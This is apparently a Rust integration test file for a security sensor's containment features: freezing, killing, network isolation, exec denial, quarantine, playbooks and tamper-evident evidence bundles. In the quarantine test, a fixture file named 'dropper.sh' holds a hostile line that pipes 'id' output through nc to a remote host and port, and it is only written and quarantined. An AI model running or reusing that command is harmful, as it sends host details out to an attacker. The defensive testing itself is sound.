//! Containment and response on the live agent, against processes, containers and files the
//! tests create: freeze and thaw, kill a tree, isolate with an allow-list, deny exec,
//! quarantine and restore, the guards, playbooks in dry-run and auto (with their latency),
//! evidence bundles that verify and then fail after tampering, and the incident report.
//! Root only.

use std::{
    io::{BufRead, BufReader, Read, Write},
    net::TcpListener,
    os::unix::{fs::PermissionsExt, process::ExitStatusExt},
    path::Path,
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use sensor_tests::{Agent, WAIT, require_root, runc};

fn wait_until(within: Duration, mut f: impl FnMut() -> bool) -> bool {
    let deadline = Instant::now() + within;
    while Instant::now() < deadline {
        if f() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    f()
}

/// The cgroup v2 mount (hybrid hosts: /sys/fs/cgroup/unified; pure v2: /sys/fs/cgroup).
fn v2_root() -> std::path::PathBuf {
    sensor::enrich::cgroup_cache::cgroup2_root(Path::new("/")).expect("a cgroup v2 mount")
}

fn file_len(p: &Path) -> u64 {
    std::fs::metadata(p).map(|m| m.len()).unwrap_or(0)
}

/// The containment id out of "… release with: sensor release ID".
fn containment_id(out: &str) -> String {
    out.lines()
        .find_map(|l| l.strip_prefix("release with: sensor release "))
        .unwrap_or_else(|| panic!("no containment id in {out:?}"))
        .trim()
        .to_owned()
}

fn alive(pid: u32) -> bool {
    // A zombie still has /proc/<pid>; its state letter says it is gone.
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .map(|s| {
            s.rsplit(')')
                .next()
                .is_some_and(|r| !r.trim_start().starts_with('Z'))
        })
        .unwrap_or(false)
}

fn children_of(pid: u32) -> Vec<u32> {
    std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
        .unwrap_or_default()
        .split_whitespace()
        .filter_map(|p| p.parse().ok())
        .collect()
}

/// A shell that appends to `file` every 20 ms, with a child of its own.
/// A shell writing ticks, with a background sleep: a tree of the test's own. Its own process
/// group, killed whole when dropped, so a failed assertion leaves nothing running.
struct Writer(Child);

impl std::ops::Deref for Writer {
    type Target = Child;
    fn deref(&self) -> &Child {
        &self.0
    }
}

impl std::ops::DerefMut for Writer {
    fn deref_mut(&mut self) -> &mut Child {
        &mut self.0
    }
}

impl Drop for Writer {
    fn drop(&mut self) {
        // Only while the leader is unreaped is its group id surely still ours.
        if let Ok(None) = self.0.try_wait() {
            let pgid = nix::unistd::Pid::from_raw(self.0.id() as i32);
            let _ = nix::sys::signal::killpg(pgid, nix::sys::signal::Signal::SIGKILL);
            let _ = self.0.wait();
        }
    }
}

fn writer(file: &Path) -> Writer {
    use std::os::unix::process::CommandExt;
    Writer(
        Command::new("sh")
            .arg("-c")
            .arg(format!(
                "sleep 600 & while :; do echo x >> {}; sleep 0.02; done",
                file.display()
            ))
            .process_group(0)
            .spawn()
            .expect("spawn writer"),
    )
}

#[test]
fn freeze_thaw_kill_tree_and_guards() {
    if !require_root("freeze_thaw_kill_tree_and_guards") {
        return;
    }
    let agent = Agent::start(None);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("ticks");
    let mut child = writer(&file);
    let pid = child.id();
    assert!(
        wait_until(WAIT, || file_len(&file) > 10),
        "writer never wrote"
    );
    let sleeper = *children_of(pid)
        .first()
        .expect("the writer's background sleep");

    // Dry run: the guards pass, nothing changes.
    let out = agent.cli_ok(&["contain", "freeze", "--tree", &pid.to_string(), "--dry-run"]);
    assert!(out.contains("would freeze"), "{out}");
    let before = file_len(&file);
    std::thread::sleep(Duration::from_millis(200));
    assert!(file_len(&file) > before, "a dry run stopped the writer");

    // Freeze: the tree moves into a containment cgroup and stops running.
    let home = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
    let out = agent.cli_ok(&["contain", "freeze", "--tree", &pid.to_string()]);
    let id = containment_id(&out);
    let cg = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
    assert!(cg.contains("/sensor.contain/"), "{cg}");
    assert!(
        std::fs::read_to_string(format!("/proc/{sleeper}/cgroup"))
            .unwrap()
            .contains("/sensor.contain/"),
        "the child was not contained with its parent"
    );
    let frozen_at = file_len(&file);
    std::thread::sleep(Duration::from_millis(400));
    assert_eq!(file_len(&file), frozen_at, "the frozen writer kept writing");
    let list = agent.cli_json(&["contain", "list", "--json"]);
    assert_eq!(list["listing"]["active"][0]["id"], id.as_str());

    // Thaw: it runs again, back in its own cgroup; the containment cgroup is gone.
    agent.cli_ok(&["release", &id]);
    assert!(
        wait_until(WAIT, || file_len(&file) > frozen_at),
        "the thawed writer did not resume"
    );
    let back = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
    assert_eq!(back, home, "not moved back where it was");

    // Guards no request can pass.
    for (args, why) in [
        (vec!["contain", "kill", "--pid", "1"], "init"),
        (
            vec!["contain", "freeze", "--pid", &agent.pid().to_string()],
            "the sensor itself",
        ),
        (
            vec!["contain", "kill", "--tree", &std::process::id().to_string()],
            "ancestor of the sensor",
        ),
        (vec!["contain", "quarantine", "/bin/sh"], "protected"),
        (vec!["contain", "kill", "--cgroup", "/"], "root cgroup"),
    ] {
        let out = agent.cli(&args);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{args:?} was not refused");
        assert!(
            err.contains("refused") && err.contains(why),
            "{args:?}: {err}"
        );
    }
    assert!(alive(1));

    // Kill the tree: the shell and its child both die.
    let out = agent.cli_ok(&["contain", "kill", "--tree", &pid.to_string()]);
    assert!(out.contains("killed"), "{out}");
    let status = child.wait().unwrap();
    assert_eq!(status.signal(), Some(9), "{status:?}");
    assert!(wait_until(WAIT, || !alive(sleeper)), "the child survived");

    // Everything, refusals included, is in the audit trail, whose chain holds.
    let audit = agent.cli_ok(&["audit", "show", "--json"]);
    let entries: Vec<serde_json::Value> = audit
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let outcomes: Vec<(String, String)> = entries
        .iter()
        .map(|e| {
            (
                e["action"].as_str().unwrap().to_owned(),
                e["outcome"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    for want in [
        ("freeze", "would"),
        ("freeze", "ok"),
        ("release", "ok"),
        ("kill", "refused"),
        ("kill", "ok"),
    ] {
        assert!(
            outcomes.contains(&(want.0.to_owned(), want.1.to_owned())),
            "{want:?} missing from {outcomes:?}"
        );
    }
    assert!(
        agent
            .cli_ok(&["audit", "verify"])
            .contains("hash chain intact")
    );
}

#[test]
fn container_freeze_thaw_and_kill() {
    if !require_root("container_freeze_thaw_and_kill") {
        return;
    }
    if let Err(why) = runc::available() {
        eprintln!("SKIP container_freeze_thaw_and_kill: {why}");
        return;
    }
    let agent = Agent::start(None);
    let id = runc::unique_id("sensor-contain");
    let c = runc::Container::create(&id, &["sh", "-c", "while :; do sleep 0.05; done"])
        .expect("bundle");
    c.start_detached().expect("start");
    let events = v2_root().join(&id).join("cgroup.events");
    assert!(events.exists(), "no cgroup at {}", events.display());
    let frozen = || {
        std::fs::read_to_string(&events)
            .unwrap_or_default()
            .lines()
            .any(|l| l == "frozen 1")
    };
    let out = agent.cli_ok(&["contain", "freeze", "--container", &id]);
    let cid = containment_id(&out);
    assert!(frozen(), "the container is not frozen");
    agent.cli_ok(&["release", &cid]);
    assert!(
        wait_until(WAIT, || !frozen()),
        "the container stayed frozen"
    );
    let out = agent.cli_ok(&["contain", "kill", "--container", &id]);
    assert!(out.contains("killed"), "{out}");
    let procs = v2_root().join(&id).join("cgroup.procs");
    assert!(
        wait_until(WAIT, || std::fs::read_to_string(&procs)
            .map(|t| t.trim().is_empty())
            .unwrap_or(true)),
        "processes left in the container"
    );
}

#[test]
fn isolation_keeps_only_the_allow_list_and_release_restores() {
    if !require_root("isolation_keeps_only_the_allow_list_and_release_restores") {
        return;
    }
    let agent = Agent::start(None);
    let allowed = TcpListener::bind("127.0.0.1:0").unwrap();
    let denied = TcpListener::bind("127.0.0.1:0").unwrap();
    let (pa, pd) = (
        allowed.local_addr().unwrap().port(),
        denied.local_addr().unwrap().port(),
    );
    // Accept in the background, forever (the listeners live as long as the test).
    for l in [allowed.try_clone().unwrap(), denied.try_clone().unwrap()] {
        std::thread::spawn(move || {
            for s in l.incoming().flatten() {
                std::thread::spawn(move || {
                    let mut s = s;
                    let mut buf = [0u8; 64];
                    while let Ok(n) = s.read(&mut buf) {
                        if n == 0 || s.write_all(&buf[..n]).is_err() {
                            break;
                        }
                    }
                });
            }
        });
    }
    // The workload: for each line on stdin, connect to both ports (and echo over an
    // already-open connection to the denied one) and report.
    let script = format!(
        r#"
import socket, sys
held = socket.create_connection(("127.0.0.1", {pd}), timeout=2)
print("ready", flush=True)
for _ in sys.stdin:
    out = []
    for port in ({pa}, {pd}):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            out.append("ok")
        except OSError:
            out.append("fail")
    try:
        held.settimeout(1)
        held.sendall(b"ping")
        out.append("ok" if held.recv(4) == b"ping" else "fail")
    except OSError:
        out.append("fail")
    print(" ".join(out), flush=True)
"#
    );
    // The workload runs in a cgroup of the test's own from its first instruction, so its
    // sockets belong to that cgroup (a socket keeps the cgroup it was created in).
    let cg = v2_root().join(format!("sensor-test-iso-{}", std::process::id()));
    std::fs::create_dir_all(&cg).unwrap();
    let mut child = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "echo $$ > {}/cgroup.procs && exec python3 -c \"$0\"",
            cg.display()
        ))
        .arg(&script)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3");
    let mut stdin = child.stdin.take().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "ready");
    let mut round = || {
        stdin.write_all(b"go\n").unwrap();
        lines.next().unwrap().unwrap()
    };
    assert_eq!(round(), "ok ok ok", "before isolation");
    let out = agent.cli_ok(&[
        "contain",
        "isolate",
        "--cgroup",
        cg.file_name().unwrap().to_str().unwrap(),
        "--allow",
        &format!("127.0.0.1:{pa}"),
    ]);
    let id = containment_id(&out);
    // New connects: only the allow-listed one; the open connection is cut too (cgroup_skb).
    assert_eq!(round(), "ok fail fail", "while isolated");
    let s = agent.status();
    assert!(
        s.respond.kernel.connect_denied >= 1,
        "{:?}",
        s.respond.kernel
    );
    assert!(
        s.respond.kernel.packets_dropped >= 1,
        "{:?}",
        s.respond.kernel
    );
    agent.cli_ok(&["release", &id]);
    // The held connection recovers by retransmission; new connects work at once.
    let after = round();
    assert!(after.starts_with("ok ok"), "after release: {after}");
    // A process tree is isolated the same way; new connects from it are refused.
    let out = agent.cli_ok(&["contain", "isolate", "--tree", &child.id().to_string()]);
    let id = containment_id(&out);
    let r = round();
    assert!(r.starts_with("fail fail"), "tree isolation: {r}");
    agent.cli_ok(&["release", &id]);
    assert!(round().starts_with("ok ok"));
    drop(stdin);
    let _ = child.kill();
    let _ = child.wait();
    let _ = std::fs::remove_dir(&cg);
}

#[test]
fn deny_exec_and_quarantine_round_trip() {
    if !require_root("deny_exec_and_quarantine_round_trip") {
        return;
    }
    let agent = Agent::start(None);
    let dir = tempfile::tempdir().unwrap();
    // A real program of its own inode (the VM's /bin is busybox applets, which a copy breaks).
    let exe = dir.path().join("mysensor");
    std::fs::copy(sensor_tests::sensor_bin(), &exe).unwrap();
    let run = || {
        Command::new(&exe)
            .arg("--version")
            .stdout(Stdio::null())
            .status()
    };
    assert!(run().unwrap().success());
    let out = agent.cli_ok(&["contain", "deny-exec", exe.to_str().unwrap()]);
    let id = containment_id(&out);
    // BPF LSM (where the kernel loads it) refuses the exec with EPERM; the fallback kills
    // the task before the program's first instruction.
    let backend = agent.status().baseline.enforcement_backend;
    let lsm = backend.starts_with("exec: lsm/");
    if let Ok(want) = std::env::var("SENSOR_EXPECT_BACKEND") {
        assert_eq!(
            lsm,
            want == "lsm",
            "expected the {want} backend, got: {backend}"
        );
    }
    match run() {
        // EPERM is 1.
        Err(e) => assert!(lsm && e.raw_os_error() == Some(1), "{e} ({backend})"),
        Ok(st) => assert!(
            !lsm && st.signal() == Some(9),
            "a denied program ran: {st:?}"
        ),
    }
    // Only that file: the original (another inode) still runs.
    assert!(
        Command::new(sensor_tests::sensor_bin())
            .arg("--version")
            .stdout(Stdio::null())
            .status()
            .unwrap()
            .success()
    );
    assert!(agent.status().respond.kernel.exec_denied >= 1);
    agent.cli_ok(&["release", &id]);
    assert!(run().unwrap().success(), "still denied after release");

    // By hash: a copy with another inode but the same bytes is killed at its first exec (from
    // userspace, once the agent hashed it), then refused by the kernel at the next.
    // A sleep of its own hash: trailing bytes change the hash, not the program (the VM's
    // /bin/sleep is busybox, whose plain hash is that of the protected /sbin/init).
    let sleep = dir.path().join("s1");
    std::fs::copy("/bin/sleep", &sleep).unwrap();
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(&sleep)
        .unwrap();
    f.write_all(format!("\0sensor-test-{}", std::process::id()).as_bytes())
        .unwrap();
    drop(f);
    let sum = Command::new("sha256sum").arg(&sleep).output().unwrap();
    let hash = String::from_utf8_lossy(&sum.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned();
    let out = agent.cli_ok(&["contain", "deny-exec", "--sha256", &hash]);
    let hid = containment_id(&out);
    let copy = dir.path().join("s2");
    std::fs::copy(&sleep, &copy).unwrap();
    let start_copy = |secs: &str| {
        // argv[0] "sleep": busybox (the VM's /bin/sleep) picks its applet by name.
        std::os::unix::process::CommandExt::arg0(&mut Command::new(&copy), "sleep")
            .arg(secs)
            .spawn()
    };
    let mut first = start_copy("30").unwrap();
    let st = first.wait().unwrap();
    assert_eq!(
        st.signal(),
        Some(9),
        "a program with a denied hash kept running: {st:?}"
    );
    match start_copy("30") {
        Err(e) => assert!(lsm && e.raw_os_error() == Some(1), "{e}"),
        Ok(mut c) => {
            let st = c.wait().unwrap();
            assert!(!lsm && st.signal() == Some(9), "second exec: {st:?}");
        }
    }
    let list = agent.cli_json(&["contain", "list", "--json"]);
    assert_eq!(
        list["listing"]["active"][0]["hash_inodes"]
            .as_array()
            .map(Vec::len),
        Some(1),
        "{list}"
    );
    agent.cli_ok(&["release", &hid]);
    let mut ok = start_copy("0.2").unwrap();
    assert!(ok.wait().unwrap().success(), "still denied after release");
    let audit = std::fs::read_to_string(agent.state.path().join("audit.jsonl")).unwrap();
    assert!(audit.contains("\"deny-exec-hit\""), "{audit}");

    // Quarantine: the file leaves, unreadable; release puts back the same bytes and mode.
    let f = dir.path().join("dropper.sh");
    let bytes = b"#!/bin/sh\necho \"$(id)\" | nc 10.0.0.1 4444\n\x00\xff\xfe";
    std::fs::write(&f, bytes).unwrap();
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o4750)).unwrap();
    let mtime = std::fs::metadata(&f).unwrap().modified().unwrap();
    let out = agent.cli_ok(&["contain", "quarantine", f.to_str().unwrap()]);
    let qid = containment_id(&out);
    assert!(!f.exists());
    let stored = agent
        .state
        .path()
        .join("respond/quarantine")
        .join(&qid)
        .join("content");
    assert_eq!(
        std::fs::metadata(&stored).unwrap().permissions().mode() & 0o7777,
        0
    );
    agent.cli_ok(&["release", &qid]);
    assert_eq!(std::fs::read(&f).unwrap(), bytes);
    let meta = std::fs::metadata(&f).unwrap();
    assert_eq!(meta.permissions().mode() & 0o7777, 0o4750);
    assert_eq!(meta.modified().unwrap(), mtime);
    assert!(!stored.exists());
}

const MARKER_RULES: &str = r#"- rule:
    id: TEST-CONTAIN-DRY
    name: Dry marker
    description: test rule
    severity: high
    condition: evt.type = exec and proc.args contains marker-dry-run
    output: "dry %proc.cmdline"
- rule:
    id: TEST-CONTAIN-AUTO
    name: Auto marker
    description: test rule
    severity: critical
    mitre: {tactics: [execution], techniques: [T1059.004]}
    condition: evt.type = exec and proc.args contains marker-auto-run
    output: "auto %proc.cmdline"
- rule:
    id: TEST-CONTAIN-APPROVE
    name: Approve marker
    description: test rule
    severity: high
    condition: evt.type = exec and proc.args contains marker-approve-run
    output: "approve %proc.cmdline"
"#;

const PLAYBOOKS: &str = r#"playbooks:
  - id: dry
    mode: dry-run
    trigger: {rules: [TEST-CONTAIN-DRY]}
    steps: [freeze, kill]
  - id: auto
    mode: auto
    trigger: {rules: ["TEST-CONTAIN-AUTO"], min_severity: high}
    steps:
      - freeze: tree
      - collect-evidence
      - kill: tree
      - notify: "marker contained"
  - id: ask
    mode: approve
    trigger: {rules: [TEST-CONTAIN-APPROVE]}
    steps: [{freeze: tree}]
"#;

#[test]
fn playbooks_dry_run_auto_evidence_and_report() {
    if !require_root("playbooks_dry_run_auto_evidence_and_report") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("rules.yaml"), MARKER_RULES).unwrap();
    std::fs::write(dir.path().join("playbooks.yaml"), PLAYBOOKS).unwrap();
    let cfg = sensor::config::DEFAULT_TOML
        .replacen(
            "paths = []",
            &format!(
                "paths = [{:?}]",
                dir.path().join("rules.yaml").display().to_string()
            ),
            1,
        )
        .replace("builtin = true", "builtin = false")
        .replace(
            "playbooks = []",
            &format!(
                "playbooks = [{:?}]",
                dir.path().join("playbooks.yaml").display().to_string()
            ),
        );
    let agent = Agent::start(Some(&cfg));
    assert_eq!(agent.status().respond.playbooks, 3);

    // Dry run: the process is not touched, every step is audited as "would".
    let mut dry = Command::new("sh")
        .args(["-c", "sleep 1.5", "marker-dry-run"])
        .spawn()
        .unwrap();
    let audit = agent.state.path().join("audit.jsonl");
    let read_audit = || -> Vec<serde_json::Value> {
        std::fs::read_to_string(&audit)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    };
    assert!(
        wait_until(WAIT, || read_audit()
            .iter()
            .filter(|e| e["actor"] == "playbook:dry")
            .count()
            == 2),
        "dry-run steps not audited: {:?}",
        read_audit()
    );
    assert!(
        read_audit()
            .iter()
            .filter(|e| e["actor"] == "playbook:dry")
            .all(|e| e["mode"] == "dry-run" && e["outcome"] == "would")
    );
    assert!(dry.wait().unwrap().success(), "a dry run acted");

    // Auto: freeze the tree, collect evidence, kill it; within the latency target.
    let mut auto = Command::new("sh")
        .args(["-c", "sleep 30 & wait", "marker-auto-run"])
        .spawn()
        .unwrap();
    let status = auto.wait().unwrap();
    assert_eq!(status.signal(), Some(9), "{status:?}");
    assert!(
        wait_until(WAIT, || read_audit()
            .iter()
            .any(|e| e["actor"] == "playbook:auto" && e["action"] == "notify")),
        "the run did not finish: {:?}",
        read_audit()
    );
    let entries = read_audit();
    let freeze = entries
        .iter()
        .find(|e| e["actor"] == "playbook:auto" && e["action"] == "freeze")
        .expect("freeze audited");
    assert_eq!(freeze["outcome"], "ok", "{freeze}");
    let latency = freeze["latency_ms"].as_f64().unwrap();
    eprintln!("automatic freeze {latency:.1} ms after the triggering exec");
    // The 50 ms target holds on real CPUs; under qemu's emulated CPU (the kernel matrix) only
    // a bound that still catches a freeze waiting on a timer tick or a poll interval.
    let target = if std::env::var_os("SENSOR_EMULATED_CPU").is_some() {
        250.0
    } else {
        50.0
    };
    assert!(
        latency < target,
        "freeze landed {latency} ms after the event (target {target} ms)"
    );
    for step in ["collect-evidence", "kill", "notify"] {
        assert!(
            entries.iter().any(|e| e["actor"] == "playbook:auto"
                && e["action"] == step
                && e["outcome"] == "ok"),
            "{step} missing: {entries:?}"
        );
    }
    let incident = freeze["incident"].as_str().expect("incident").to_owned();
    // The killed tree's containment cgroup is retired and removed: nothing left behind.
    let contain_dir = std::path::PathBuf::from(freeze["detail"]["cgroup"].as_str().unwrap());
    assert!(
        wait_until(WAIT, || !contain_dir.exists()),
        "{} left behind",
        contain_dir.display()
    );
    assert!(
        wait_until(WAIT, || read_audit()
            .iter()
            .any(|e| e["action"] == "retire")),
        "retirement not audited"
    );
    // The same attack again inside the fold window: its alert folds into the first, and the
    // playbook still contains the new process.
    let mut again = Command::new("sh")
        .args(["-c", "sleep 30 & wait", "marker-auto-run"])
        .spawn()
        .unwrap();
    let status = again.wait().unwrap();
    assert_eq!(
        status.signal(),
        Some(9),
        "second run not contained: {status:?}"
    );
    agent
        .wait_alert(WAIT, |a| a.rule.id == "sensor.response.notify")
        .expect("notify alert");

    // The evidence bundle verifies, then fails after a one-byte change and a removed item.
    let bundle = agent
        .state
        .path()
        .join("evidence")
        .join(format!("incident-{incident}"));
    let b = bundle.to_str().unwrap();
    let ok = agent.cli_ok(&["evidence", "verify", b]);
    assert!(ok.starts_with("OK:"), "{ok}");
    let tree: serde_json::Value =
        serde_json::from_slice(&std::fs::read(bundle.join("items/001-process-tree.json")).unwrap())
            .unwrap();
    assert!(
        tree.as_array().unwrap().iter().any(|p| p["args"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x == "marker-auto-run"))),
        "{tree}"
    );
    let events = std::fs::read_to_string(bundle.join("items/008-events.jsonl")).unwrap();
    assert!(
        events.contains("marker-auto-run"),
        "no recent events in the bundle"
    );
    let item = bundle.join("items/004-memory-maps.txt");
    let original = std::fs::read(&item).unwrap();
    let mut changed = original.clone();
    changed[0] ^= 1;
    std::fs::write(&item, &changed).unwrap();
    let out = agent.cli(&["evidence", "verify", b]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("004-memory-maps.txt"));
    std::fs::write(&item, &original).unwrap();
    assert!(agent.cli_ok(&["evidence", "verify", b]).starts_with("OK:"));
    std::fs::remove_file(bundle.join("items/002-environment.json")).unwrap();
    let out = agent.cli(&["evidence", "verify", b]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("002-environment.json"));
    // Every verification is an access, recorded in the custody log.
    let custody = std::fs::read_to_string(bundle.join("custody.jsonl")).unwrap();
    assert!(custody.matches("\"verify\"").count() >= 3, "{custody}");

    // Approve: nothing happens until an operator approves the run; rollback undoes it.
    let dir2 = tempfile::tempdir().unwrap();
    let ticks = dir2.path().join("ticks");
    let mut asked = Command::new("sh")
        .args([
            "-c",
            &format!(
                "while :; do echo x >> {}; sleep 0.02; done",
                ticks.display()
            ),
            "marker-approve-run",
        ])
        .spawn()
        .unwrap();
    let approval = agent
        .wait_alert(WAIT, |a| a.rule.id == "sensor.response.approval")
        .expect("approval alert");
    let run = approval.fields["run"].as_str().unwrap().to_owned();
    let list = agent.cli_json(&["contain", "list", "--json"]);
    assert_eq!(list["listing"]["pending"][0]["run"], run.as_str());
    let before = file_len(&ticks);
    assert!(
        wait_until(WAIT, || file_len(&ticks) > before),
        "acted before approval"
    );
    agent.cli_ok(&["contain", "approve", &run]);
    let frozen_at = file_len(&ticks);
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        file_len(&ticks),
        frozen_at,
        "approved freeze did not stop it"
    );
    agent.cli_ok(&["contain", "rollback", &run]);
    assert!(
        wait_until(WAIT, || file_len(&ticks) > frozen_at),
        "rollback did not thaw"
    );
    let _ = asked.kill();
    let _ = asked.wait();

    // The report: timeline, ATT&CK progression, actions and the evidence index. (The agent
    // publishes its incidents once a second: wait until the auto alert is in.)
    assert!(wait_until(WAIT, || {
        let list = agent.cli_json(&["incidents", "list", "--json"]);
        list.as_array().is_some_and(|l| {
            l.iter()
                .any(|i| i["id"] == incident.as_str() && i["alert_count"].as_u64() >= Some(2))
        })
    }));
    let out_dir = dir.path().join("report");
    agent.cli_ok(&[
        "incidents",
        "report",
        &incident,
        "--out",
        out_dir.to_str().unwrap(),
    ]);
    let md = std::fs::read_to_string(out_dir.join(format!("incident-{incident}.md"))).unwrap();
    for needle in [
        "TEST\\-CONTAIN\\-AUTO",
        "execution",
        "freeze",
        "FAILED verification",
        "memory\\-maps",
    ] {
        assert!(
            md.contains(needle),
            "{needle} missing from the report:\n{md}"
        );
    }
    let html = std::fs::read_to_string(out_dir.join(format!("incident-{incident}.html"))).unwrap();
    assert!(html.contains("<h2>Timeline</h2>") && html.contains("playbook:auto"));
}

#[test]
fn playbook_check_locates_errors() {
    let dir = tempfile::tempdir().unwrap();
    let pb = dir.path().join("bad.yaml");
    std::fs::write(&pb, "- id: x\n  trigger: {tags: [a]}\n  steps: [freez]\n").unwrap();
    let out = Command::new(sensor_tests::sensor_bin())
        .args(["playbooks", "check", pb.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.yaml:3:11: unknown step `freez`"), "{err}");
}

#[test]
fn encrypted_evidence_verifies_and_hides_its_contents() {
    if !require_root("encrypted_evidence_verifies_and_hides_its_contents") {
        return;
    }
    let cfg =
        sensor::config::DEFAULT_TOML.replace("evidence_encrypt = false", "evidence_encrypt = true");
    let agent = Agent::start(Some(&cfg));
    let mut child = Command::new("sleep")
        .arg("30")
        .env("MY_API_TOKEN", "tok-should-not-appear")
        .spawn()
        .unwrap();
    let out = agent.cli_ok(&["evidence", "collect", "--pid", &child.id().to_string()]);
    let bundle = out
        .lines()
        .find_map(|l| l.strip_prefix("evidence bundle "))
        .unwrap_or_else(|| panic!("{out}"))
        .trim()
        .to_owned();
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(Path::new(&bundle).join("manifest.json")).unwrap())
            .unwrap();
    assert_eq!(manifest["encrypted"], true);
    for item in std::fs::read_dir(Path::new(&bundle).join("items")).unwrap() {
        let bytes = std::fs::read(item.unwrap().path()).unwrap();
        let text = String::from_utf8_lossy(&bytes);
        assert!(
            !text.contains("sleep") && !text.contains("MY_API_TOKEN"),
            "plaintext at rest"
        );
    }
    assert!(
        agent
            .cli_ok(&["evidence", "verify", &bundle])
            .starts_with("OK:")
    );
    let item = Path::new(&bundle).join("items/002-environment.json");
    let mut bytes = std::fs::read(&item).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 0x80;
    std::fs::write(&item, &bytes).unwrap();
    let out = agent.cli(&["evidence", "verify", &bundle]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("002-environment.json"));
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
fn v1_freezer_cgroup_freeze_and_thaw() {
    if !require_root("v1_freezer_cgroup_freeze_and_thaw") {
        return;
    }
    let v1 = Path::new("/sys/fs/cgroup/freezer");
    if !v1.join("freezer.state").exists() && !v1.join("cgroup.procs").exists() {
        eprintln!(
            "SKIP v1_freezer_cgroup_freeze_and_thaw: no cgroup v1 freezer hierarchy on this host (pure cgroup v2)"
        );
        return;
    }
    let agent = Agent::start(None);
    let cg = v1.join(format!("sensor-test-v1-{}", std::process::id()));
    std::fs::create_dir_all(&cg).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let ticks = dir.path().join("ticks");
    let mut child = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "echo $$ > {}/cgroup.procs && while :; do echo x >> {}; sleep 0.02; done",
            cg.display(),
            ticks.display()
        ))
        .spawn()
        .unwrap();
    assert!(wait_until(WAIT, || file_len(&ticks) > 10));
    let out = agent.cli_ok(&["contain", "freeze", "--cgroup", cg.to_str().unwrap()]);
    let id = containment_id(&out);
    assert_eq!(
        std::fs::read_to_string(cg.join("freezer.state"))
            .unwrap()
            .trim(),
        "FROZEN"
    );
    let at = file_len(&ticks);
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(file_len(&ticks), at, "the v1-frozen writer kept writing");
    agent.cli_ok(&["release", &id]);
    assert!(wait_until(WAIT, || file_len(&ticks) > at), "not thawed");
    let _ = child.kill();
    let _ = child.wait();
    assert!(
        wait_until(WAIT, || std::fs::remove_dir(&cg).is_ok()),
        "cannot remove {}",
        cg.display()
    );
}
